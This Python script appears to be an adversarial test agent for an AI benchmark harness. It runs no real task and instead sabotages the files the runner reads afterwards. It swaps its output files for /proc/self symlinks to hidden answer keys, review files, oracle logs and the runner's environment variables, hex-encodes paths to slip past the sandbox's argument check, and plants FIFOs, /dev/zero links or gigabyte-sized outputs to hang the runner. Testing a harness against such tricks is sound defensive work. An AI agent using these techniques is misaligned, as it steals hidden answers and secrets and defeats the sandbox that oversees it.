"""A ``command`` agent that runs no command and attacks what the runner reads after it has gone.

Usage: ``leave_behind.py ATTACK [TARGET]``; the attacks (issue 25):

- ``link-answer TARGET`` / ``link-stdout TARGET`` / ``link-usage TARGET``: its answer, stdout or usage
  file replaced by a symbolic link to TARGET, one of :data:`TARGETS` (or ``hex:`` and a path in hex:
  the task set's absolute path, known to the attacker, for a runner whose working directory is not
  beside it - a Ray worker). They go through
  ``/proc/self``, which resolves in the runner, whose working directory holds the task set and the
  run folders: the sandboxed agent needs to know nothing of the runner's paths (and names none on
  its command line, where the sandbox would refuse a path inside the task set);
- ``fifo-answer``: the answer file a FIFO (a naive runner blocks on it forever);
- ``zero-answer``: the answer file a link to ``/dev/zero`` (a naive runner reads until it is killed);
- ``sparse-stdout``: its standard output a sparse file of 4 GiB holding no answer;
- ``stderr-gib``: 1 GiB written to standard error, then a valid answer in the answer file.
"""

from __future__ import annotations

import os
import sys

ANSWER = "CORE_SW_01;GigabitEthernet0/0/24;shutdown\n"
TARGETS = {
    "review": "/proc/self/cwd/tasks/rca/{task}/reviews/round-01.yaml",
    "oracle-log": "/proc/self/cwd/runs/oracle/logs/{task}.log",
    "hidden": "/proc/self/cwd/tasks/rca/{task}/hidden.yaml",
    "environ": "/proc/self/environ",
}


def replace(path: str, target: str) -> None:
    if target.startswith("hex:"):  # an absolute path the sandbox would refuse to see on the command line
        target = bytes.fromhex(target[4:]).decode()
    target = TARGETS.get(target, target).format(task=os.environ["CTBENCH_TASK_ID"])
    if os.path.lexists(path):
        os.unlink(path)
    os.symlink(target, path)


def main() -> int:
    sys.stdin.read()
    attack = sys.argv[1]
    answer = os.environ["CTBENCH_ANSWER_FILE"]
    io_dir = os.path.dirname(answer)
    stdout = os.path.join(io_dir, "stdout.txt")
    if attack == "link-answer":
        replace(answer, sys.argv[2])
    elif attack == "link-stdout":
        replace(stdout, sys.argv[2])
    elif attack == "link-usage":
        replace(os.environ["CTBENCH_USAGE_FILE"], sys.argv[2])
        with open(answer, "w") as fh:
            fh.write("no idea\n")
    elif attack == "fifo-answer":
        os.mkfifo(answer)
    elif attack == "zero-answer":
        replace(answer, "/dev/zero")
    elif attack == "sparse-stdout":
        os.truncate(1, 4 << 30)
    elif attack == "stderr-gib":
        chunk = b"x" * ((1 << 20) - 1) + b"\n"
        for _ in range(1024):
            os.write(2, chunk)
        with open(answer, "w") as fh:
            fh.write(ANSWER)
    else:
        print(f"unknown attack {attack}", file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
